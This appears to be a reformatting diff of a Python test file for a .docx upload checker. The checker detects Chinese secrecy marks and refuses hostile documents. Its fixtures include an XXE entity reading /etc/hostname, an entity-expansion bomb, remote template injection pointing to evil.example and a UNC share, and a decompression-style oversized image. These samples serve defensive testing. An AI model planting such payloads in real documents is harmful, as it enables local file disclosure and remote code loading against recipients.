@@ -51,9 +51,7 @@ def relations(kind, target, mode="External"):
 
 
 def check(content, name="纪要.docx"):
-    return check_upload(
-        name=name, content=io.BytesIO(content), declared_type="", cleared=True, max_bytes=10_000_000
-    )
+    return check_upload(name=name, content=io.BytesIO(content), declared_type="", cleared=True, max_bytes=10_000_000)
 
 
 def refusal(content, name="纪要.docx"):
@@ -71,11 +69,7 @@ def refusal(content, name="纪要.docx"):
         docx(extra={"word/media/image1.png": b"\x89PNG"}),
         docx(extra={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}),
         docx(extra={"word/_rels/document.xml.rels": relations("hyperlink", "https://www.gov.cn/")}),
-        docx(
-            extra={
-                "word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Users\\a\\b.dotx")
-            }
-        ),
+        docx(extra={"word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Users\\a\\b.dotx")}),
     ],
 )
 def test_an_ordinary_document_is_taken_and_unchanged(content):
@@ -89,9 +83,7 @@ HEADER = f"<w:hdr {W}>{paragraph('机密★1年')}</w:hdr>"
 BOX = f"<w:txbxContent>{paragraph('秘密★5年')}</w:txbxContent>"
 TEXT_BOX = f"<w:p><w:r><w:t>会议</w:t>{BOX}<w:t>纪要</w:t></w:r></w:p>"
 PROPERTIES = "<p:coreProperties xmlns:p='urn:p'><p:keywords>内部资料</p:keywords></p:coreProperties>"
-WATERMARK = (
-    f"<w:hdr {W}><w:p><v:textpath xmlns:v='urn:schemas-microsoft-com:vml' string='绝密'/></w:p></w:hdr>"
-)
+WATERMARK = f"<w:hdr {W}><w:p><v:textpath xmlns:v='urn:schemas-microsoft-com:vml' string='绝密'/></w:p></w:hdr>"
 RUNS = "<w:p><w:r><w:t>机</w:t></w:r><w:r><w:t>密</w:t></w:r><w:r><w:t>★</w:t></w:r></w:p>"
 DELETED = "<w:p><w:del><w:r><w:delText>机密★1年</w:delText></w:r></w:del><w:r><w:t>会议</w:t></w:r></w:p>"
 CELL = f"<w:tbl><w:tr><w:tc>{paragraph('密级')}</w:tc><w:tc>{paragraph('秘密')}</w:tc></w:tr></w:tbl>"
@@ -120,9 +112,7 @@ def test_22_a_mark_is_found_wherever_word_keeps_text(content):
 
 def with_entity(encoding):
     entity = f'<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/hostname">]><w:document {W}>&a;</w:document>'
-    return docx(
-        extra={"word/document.xml": f'<?xml version="1.0" encoding="{encoding}"?>{entity}'.encode(encoding)}
-    )
+    return docx(extra={"word/document.xml": f'<?xml version="1.0" encoding="{encoding}"?>{entity}'.encode(encoding)})
 
 
 LAUGHS = "<!DOCTYPE d [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><d>&b;</d>"
@@ -143,19 +133,11 @@ LAUGHS = "<!DOCTYPE d [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><d>&b;</d>"
         (with_entity("utf-16"), "outside_content"),
         (docx(extra={"word/styles.xml": LAUGHS}), "outside_content"),
         (
-            docx(
-                extra={
-                    "word/_rels/settings.xml.rels": relations(
-                        "attachedTemplate", "https://evil.example/t.dotm"
-                    )
-                }
-            ),
+            docx(extra={"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/t.dotm")}),
             "outside_content",
         ),
         (
-            docx(
-                extra={"word/_rels/settings.xml.rels": relations("attachedTemplate", "\\\\10.0.0.1\\t.dotm")}
-            ),
+            docx(extra={"word/_rels/settings.xml.rels": relations("attachedTemplate", "\\\\10.0.0.1\\t.dotm")}),
             "outside_content",
         ),
         (docx(extra={"word/media/bomb.bmp": b"\0" * 30_000_000}), "too_complex"),
